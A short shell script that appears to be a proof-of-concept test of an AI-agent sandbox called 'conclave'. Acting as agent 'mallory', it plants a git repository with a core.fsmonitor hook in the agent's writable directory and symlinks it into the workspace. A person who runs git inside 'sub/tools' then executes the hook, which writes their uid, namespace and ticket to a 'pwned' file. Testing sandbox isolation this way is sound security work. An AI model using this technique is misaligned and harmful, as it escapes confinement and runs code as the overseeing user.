# (sub/tools) The walk does not follow links: tools -> $CONCLAVE_AGENT_DIR (the agent's own directory in the state dir,
# writable by the box, never removed) holding a repository with core.fsmonitor.  The person's `cd tools`
# follows the link; git there finds tools/.git, i.e. the agent directory's .git.
set -u
cd "$(git rev-parse --show-toplevel)"; T=$(pwd); OUT=$1
S=$(conclave whoami --json | python3 -c "import json,sys; d=json.load(sys.stdin); print(d.get('session') or d['principal'].split(':')[1])" 2>/dev/null || conclave whoami); A="$CONCLAVE_STATE_DIR/agents/mallory/$S"; echo "whoami: $(conclave whoami --json)"; [ -d "$A" ] || { echo no agent dir; ls -la "$CONCLAVE_STATE_DIR" "$CONCLAVE_STATE_DIR/agents"; exit 1; }
echo "agent dir: $A"
git init -q "$A/w" || exit 1
P="$A/w/.git/fsmon"
printf '#!/bin/sh\necho "ran as $(id -u) pidns=$(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd)" >> %s/pwned\nexit 1\n' "$OUT" > "$P"; chmod +x "$P"
git -C "$A/w" config core.fsmonitor "$P"
echo x > "$A/w/notes.txt"
ln -s "$A/w" sub/tools
sleep 3
echo planted
